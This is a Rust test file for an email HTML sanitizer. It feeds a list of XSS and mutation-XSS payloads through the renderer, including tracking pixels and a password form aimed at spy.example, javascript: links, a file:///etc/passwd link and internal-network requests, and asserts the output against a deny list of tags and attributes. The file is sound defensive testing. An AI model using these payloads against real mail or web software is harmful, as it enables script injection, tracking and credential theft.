use std::{
    collections::HashMap,
    time::{Duration, Instant},
};

use proptest::prelude::*;

use super::{Outline, Page, Quoted, Remote, outline, page};

fn shown(html: &str) -> String {
    rendered(html, Remote::Blocked, Quoted::Shown)
}

fn rendered(html: &str, remote: Remote, quoted: Quoted) -> String {
    let pictures = HashMap::from([(
        "logo@lumen".to_owned(),
        "guichet-media://localhost/3/77".to_owned(),
    )]);
    let page = page(html, &pictures, remote, quoted).expect("small enough");
    let (_, body) = page.html.split_once("<body dir=\"auto\">").expect("a body");
    body.strip_suffix("</body></html>")
        .expect("an end")
        .to_owned()
}

fn fresh(html: &str) -> String {
    let text: String = rendered(html, Remote::Blocked, Quoted::Folded);
    let mut words = String::new();
    let mut within = false;
    for letter in text.chars() {
        match letter {
            '<' => within = true,
            '>' => {
                within = false;
                words.push(' ');
            }
            other if !within => words.push(other),
            _ => {}
        }
    }
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What a page must never hold, whatever a mail says.
fn assert_harmless(page: &str) {
    let low = page.to_lowercase();
    for tag in [
        "<script",
        "<style",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "<link",
        "<meta",
        "<base",
        "<video",
        "<audio",
        "<button",
        "<textarea",
        "<template",
        "<frame",
        "<!--",
        "<area",
        "<map",
    ] {
        assert!(!low.contains(tag), "{tag} in {page}");
    }
    for element in super::tokens::read(page) {
        let super::Token::Open { attributes, .. } = element else {
            continue;
        };
        for (name, value) in attributes {
            let value = super::tokens::unescape(value).to_lowercase();
            assert!(!name.starts_with("on"), "{name} in {page}");
            assert!(
                ![
                    "srcset",
                    "action",
                    "formaction",
                    "ping",
                    "class",
                    "id",
                    "srcdoc"
                ]
                .contains(&name),
                "{name} in {page}"
            );
            match name {
                "href" => assert!(
                    ["http:", "https:", "mailto:", "tel:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme)),
                    "{value} in {page}"
                ),
                "src" | "background" => assert!(
                    value.starts_with("data:image/") || value.starts_with("guichet-media:"),
                    "{value} in {page}"
                ),
                "style" => {
                    for bad in [
                        "url",
                        "expression",
                        "position",
                        "@",
                        "\\",
                        "behavior",
                        "binding",
                        "animation",
                        "image",
                    ] {
                        assert!(!value.contains(bad), "{bad} in {page}");
                    }
                }
                _ => {}
            }
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://spy.example/p.gif' onload=alert(1)>",
    "<img srcset='https://spy.example/p.gif 2x'>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=`javascript:alert(1)`>",
    "<img src='guichet-letter://localhost/3/77'>",
    "<img src='cid:nobody'>",
    "<img src='cid:\"><script>alert(1)</script>'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://spy.example'></iframe>",
    "<object data='https://spy.example/x.swf'></object>",
    "<embed src='https://spy.example/x.swf'>",
    "<form action='https://spy.example'><input name=password><button>OK</button></form>",
    "<base href='https://spy.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://spy.example'>",
    "<link rel=stylesheet href='https://spy.example/x.css'>",
    "<style>@import 'https://spy.example/x.css'; body{background:url(https://spy.example/p.gif)}</style>",
    "<div style='background:url(https://spy.example/p.gif)'>x</div>",
    "<div style='background:u\\72l(https://spy.example/p.gif)'>x</div>",
    "<div style='background:/**/url(https://spy.example/p.gif)'>x</div>",
    "<div style='background-image:image-set(\"https://spy.example/p.gif\" 1x)'>x</div>",
    "<div style='list-style:url(https://spy.example/p.gif)'>x</div>",
    "<div style='border-image:url(https://spy.example/p.gif)'>x</div>",
    "<div style='content:url(https://spy.example/p.gif);cursor:url(https://spy.example/c)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(https://spy.example/x.xml#x);behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;animation:x 1s'>x</div>",
    "<div style=\"font-family:'}</style><script>alert(1)</script>\">x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='guichet-media://localhost/3/77'>x</a>",
    "<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
    "<a href='//spy.example' ping='https://spy.example'>x</a>",
    "<table background='https://spy.example/p.gif'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<body background='https://spy.example/p.gif' onload='alert(1)'>x</body>",
    "<video src='https://spy.example/v.mp4' poster='https://spy.example/p.gif'></video>",
    "<audio src='https://spy.example/a.mp3' autoplay></audio>",
    "<img usemap='#m'><map name=m><area href='javascript:alert(1)'></map>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "</body></html><script>alert(1)</script>",
    "<p title='--><img src=x onerror=alert(1)>'>x</p>",
    "<blockquote cite='https://spy.example'>x</blockquote>",
    "<img src=\"http://192.168.0.1/reboot\"><img src='https://router.lan/x'><img src='http://localhost:8080/'>",
    "<img src='https://zoe:secret@spy.example.com/p.gif'>",
];

#[test]
fn a_hostile_mail_runs_nothing_and_fetches_nothing() {
    for html in HOSTILE {
        assert_harmless(&shown(html));
    }
    let all = HOSTILE.concat();
    assert_harmless(&shown(&all));
    assert_harmless(&rendered(&all, Remote::Blocked, Quoted::Folded));
}

#[test]
fn a_mail_cannot_call_machines_of_the_readers_network() {
    let html = "<img src='http://192.168.0.1/reboot'><img src='https://[::1]/x'><img src='https://router.lan/x'>\
        <img src='http://localhost:8080/'><img src='https://printer/x'><img src='https://zoe:secret@cdn.example.com/p.gif'>";
    assert_eq!(outline(html).whole.remote, 0);
    assert!(!rendered(html, Remote::Allowed, Quoted::Shown).contains("http"));
}

#[test]
fn the_policy_opens_only_for_pictures_and_only_when_allowed() {
    let page = |remote| Page {
        html: String::new(),
        remote,
    };
    let blocked = page(Remote::Blocked).policy("guichet-media:");
    assert!(
        blocked.starts_with(
            "default-src 'none'; style-src 'unsafe-inline'; img-src data: guichet-media:;"
        ),
        "{blocked}"
    );
    assert!(
        !blocked.contains("https:") && !blocked.contains("script"),
        "{blocked}"
    );
    assert!(blocked.ends_with("sandbox allow-popups"), "{blocked}");
    assert!(
        page(Remote::Allowed)
            .policy("guichet-media:")
            .contains("img-src data: guichet-media: https:;")
    );
}

#[test]
fn remote_pictures_are_counted_blocked_and_shown_when_allowed() {
    let html = "<p>Soldes</p><img src='http://cdn.example.com/a.png?x=1&amp;y=2' width=600 height=200 alt='Lampe'>\
        <table background='https://cdn.example.com/ground.png'><tr><td><img src='https://cdn.example.com/p.gif'></td></tr></table>";
    assert_eq!(outline(html).whole.remote, 3);
    let blocked = shown(html);
    assert!(!blocked.contains("cdn.example.com"), "{blocked}");
    assert!(
        blocked.contains("data-blocked") && blocked.contains("alt=\"Lampe\""),
        "{blocked}"
    );
    let allowed = rendered(html, Remote::Allowed, Quoted::Shown);
    assert!(
        allowed.contains("src=\"https://cdn.example.com/a.png?x=1&amp;y=2\""),
        "never in the clear: {allowed}"
    );
    assert!(
        allowed.contains("background=\"https://cdn.example.com/ground.png\""),
        "{allowed}"
    );
}

#[test]
fn pictures_that_came_with_the_mail_are_in_their_place() {
    let html = "<img src='cid:logo@lumen'><img src='CID:other'><img src='data:image/png;base64,iVBORw0KGgo='>";
    let page = shown(html);
    assert!(
        page.contains("src=\"guichet-media://localhost/3/77\""),
        "{page}"
    );
    assert!(
        page.contains("data:image/png;base64,iVBORw0KGgo="),
        "{page}"
    );
    assert_eq!(
        page.matches("data-blocked").count(),
        1,
        "one is not there: {page}"
    );
    let outline = outline(html);
    assert_eq!(outline.whole.remote, 0);
    let named: Vec<_> = outline.pictures.into_iter().collect();
    assert_eq!(named, ["logo@lumen", "other"]);
}

#[test]
fn a_link_shows_where_it_leads_and_opens_a_window_that_is_refused() {
    let page = shown("<a href='https://evil.example/?a=1&b=2'>https://ma-banque.example</a>");
    assert_eq!(
        page,
        "<a href=\"https://evil.example/?a=1&amp;b=2\" title=\"https://evil.example/?a=1&amp;b=2\" target=\"_blank\" \
         rel=\"noreferrer\">https://ma-banque.example</a>"
    );
}

#[test]
fn what_a_mail_may_say_of_its_looks_stays() {
    let html = "<td style='padding: 12px 8px; background-color:#F4F4F4; font-family:\"Helvetica Neue\",Arial; \
        width:calc(100% - 20px); position:absolute; color:rgb(1, 2, 3) !important'>x</td>";
    let page = shown(&format!(
        "<table width='600' cellpadding='0' bgcolor='#ffffff'><tr>{html}</tr></table>"
    ));
    for kept in [
        "padding:12px 8px",
        "background-color:#F4F4F4",
        "font-family:&quot;Helvetica Neue&quot;,Arial",
        "width:calc(100% - 20px)",
        "color:rgb(1, 2, 3) !important",
        "width=\"600\"",
        "bgcolor=\"#ffffff\"",
    ] {
        assert!(page.contains(kept), "{kept} in {page}");
    }
    assert!(!page.contains("position"), "{page}");
}

#[test]
fn quoted_history_is_folded_however_a_mail_program_writes_it() {
    for (program, html) in [
        (
            "Gmail",
            "<div dir=ltr>Merci&nbsp;!</div><br><div class=\"gmail_quote gmail_quote_container\"><div class=gmail_attr>Le lun. 1 juin \
             2026 à 10:14, Alice &lt;a@x.example&gt; a écrit&nbsp;:<br></div><blockquote class=gmail_quote>Bonjour</blockquote></div>",
        ),
        (
            "Thunderbird",
            "<p>Merci !</p><div class=moz-cite-prefix>Le 01/06/2026 à 10:14, Alice a écrit :<br></div>\
             <blockquote type=cite cite='mid:x'>Bonjour</blockquote>",
        ),
        (
            "Apple",
            "<div>Merci !<br><div><br><blockquote type=\"cite\"><div>On Jun 1, 2026, at 10:14, Alice wrote:</div>\
             <div>Bonjour</div></blockquote></div></div>",
        ),
        (
            "Outlook",
            "<div><p>Merci !</p><div style='border:none;border-top:solid #E1E1E1 1.0pt'><p><b>De :</b> Alice<br><b>Envoyé :</b> \
             lundi<br><b>À :</b> Zoé<br><b>Objet :</b> Lampe</p></div><p>Bonjour</p></div>",
        ),
        (
            "web Outlook",
            "<div>Merci !</div><hr><div id=divRplyFwdMsg><b>From:</b> Alice</div><div id=x><b>From:</b> Alice<br><b>Sent:</b> \
             Monday<br><b>To:</b> Zoé<br>Bonjour</div>",
        ),
        (
            "dashes",
            "<p>Merci !</p><p>-----Original Message-----</p><p>Bonjour</p>",
        ),
        (
            "French dashes",
            "Merci !<br>-----Message d'origine-----<br>Bonjour",
        ),
        (
            "a line of its own",
            "<p>Merci !</p><p>On Mon, 1 Jun 2026 Alice &lt;alice@x.example&gt;<br>wrote:</p><blockquote>Bonjour</blockquote>",
        ),
        (
            "plain",
            "<div>Merci !</div><div>Le 1 juin 2026, Alice a écrit :</div><div>&gt; Bonjour</div>",
        ),
    ] {
        assert!(outline(html).quoted, "{program}");
        let new = fresh(html);
        assert!(
            new.contains("Merci") && !new.contains("Bonjour") && !new.contains("Alice"),
            "{program}: {new}"
        );
        assert!(
            shown(html).contains("Bonjour"),
            "{program}: all of it when asked"
        );
        assert_harmless(&rendered(html, Remote::Blocked, Quoted::Folded));
    }
}

#[test]
fn what_only_looks_like_a_quotation_is_not_folded() {
    for html in [
        "<p>Le livreur a écrit :</p><p>absent</p>",
        "<p>Le client m'a écrit :</p><p>il attend</p>",
        "<blockquote type=cite>Bonjour</blockquote>",
        "<blockquote>Une citation</blockquote><p>qui compte</p>",
        "<p>Voir</p><div class=gmail_quote><div>---------- Forwarded message ---------<br>From: Alice</div><p>Facture</p></div>",
        "<p>De : la colle</p><p>Merci</p>",
    ] {
        assert!(!outline(html).quoted, "{html}");
    }
}

#[test]
fn an_answer_below_a_quotation_stays() {
    let html = "<blockquote type=cite>Quelle lampe ?</blockquote><p>La bleue.</p><blockquote type=cite>Quand ?</blockquote><p>Hier.</p>";
    assert_eq!(fresh(html), "La bleue. Hier.");
}

#[test]
fn a_mail_is_rich_when_its_text_would_not_say_it_all() {
    for (html, rich) in [
        ("<p>Bonjour,<br>ma lampe clignote.</p>", false),
        ("<div dir=ltr><b>Bonjour</b></div>", false),
        (
            "<a href='https://x.example/a'>https://x.example/a</a> <a href='mailto:a@x.example'>Alice</a>",
            false,
        ),
        ("<a href='https://x.example/a'>ici</a>", true),
        ("<table><tr><td>1</td></tr></table>", true),
        ("<img src='cid:a'>", true),
        (
            "<p>Merci</p><blockquote type=cite><img src='cid:a'></blockquote>",
            false,
        ),
    ] {
        assert_eq!(outline(html).rich, rich, "{html}");
    }
}

#[test]
fn more_text_and_larger_pictures_are_higher() {
    let height = |html: &str| outline(html).whole.height;
    let line = height("<p>Bonjour</p>");
    assert!((30..80).contains(&line), "{line}");
    let long = height(&format!("<p>{}</p>", "Bonjour la boutique ".repeat(100)));
    assert!((500..800).contains(&long), "{long}");
    let picture = height("<img src='https://x.example/a.png' width=600 height=400>");
    assert!((400..460).contains(&picture), "{picture}");
    let cell = "<td><img src='https://x.example/a.png' width=200 height=200></td>";
    let beside = height(&format!("<table><tr>{cell}{cell}{cell}</tr></table>"));
    assert!((200..280).contains(&beside), "side by side: {beside}");
    assert!(height("<div style='display:none'>Bonjour</div>") < line);
    let quoted =
        outline("<p>Merci</p><blockquote type=cite><p>Bonjour</p><p>Bonjour</p></blockquote>");
    assert!(quoted.fresh.height < quoted.whole.height);
}

#[test]
fn what_is_too_long_is_not_shown() {
    let too_large = Outline {
        too_large: true,
        ..Outline::default()
    };
    let no_pictures = HashMap::new();
    for html in [
        "x".repeat(1024 * 1024 + 1),
        "<br>".repeat(40_000),
        "<div></x>".repeat(10_000),
    ] {
        assert_eq!(outline(&html), too_large);
        assert_eq!(
            page(&html, &no_pictures, Remote::Blocked, Quoted::Shown),
            None
        );
    }
}

#[test]
fn a_mail_made_to_keep_a_reader_busy_is_read_soon() {
    for html in [
        "<table><tr><td>".repeat(1_990),
        "<div>".repeat(1_990),
        "<a href='https://x.example'><p>".repeat(1_990),
        "<b><i><p>".repeat(990),
        "<blockquote type=cite>".repeat(1_990),
        "<div>On a wrote:</div>".repeat(14_900),
        format!("<div style='{}'>", "color:red;".repeat(90_000)),
        "a ".repeat(500_000),
        "<".repeat(29_900),
    ] {
        let began = Instant::now();
        let _ = outline(&html);
        let head: String = html.chars().take(30).collect();
        assert!(
            began.elapsed() < Duration::from_secs(10),
            "{head}: {:?}",
            began.elapsed()
        );
    }
}

proptest! {
    #[test]
    fn whatever_pieces_a_mail_is_made_of_it_is_harmless(
        pieces in prop::collection::vec(
            prop_oneof![
                prop::sample::select(HOSTILE).prop_map(str::to_owned),
                prop::sample::select(&["<div>", "</div>", "<table><tr><td>", "</td>", "<p class=gmail_quote>", "\"", "'>", "<",
                    ">", "--", "<blockquote type=cite>", "</blockquote>", "On 1 wrote:<br>", "-----Original Message-----<br>"][..])
                    .prop_map(str::to_owned),
                "\\PC{0,12}",
            ],
            0..12,
        ),
        cut in 0_usize..40,
    ) {
        let mut html = pieces.concat();
        html.truncate(html.floor_char_boundary(html.len().saturating_sub(cut)));
        let shown = shown(&html);
        assert_harmless(&shown);
        let folded = rendered(&html, Remote::Blocked, Quoted::Folded);
        assert_harmless(&folded);
        // What was folded left every other element closed.
        let balance = |page: &str| {
            super::tokens::read(page).iter().fold(0_i64, |open, token| match token {
                super::Token::Open { name, .. } if !["br", "col", "hr", "img", "wbr"].contains(name) => open + 1,
                super::Token::Close { .. } => open - 1,
                _ => open,
            })
        };
        prop_assert_eq!(balance(&shown), 0);
        prop_assert_eq!(balance(&folded), 0);
    }
}
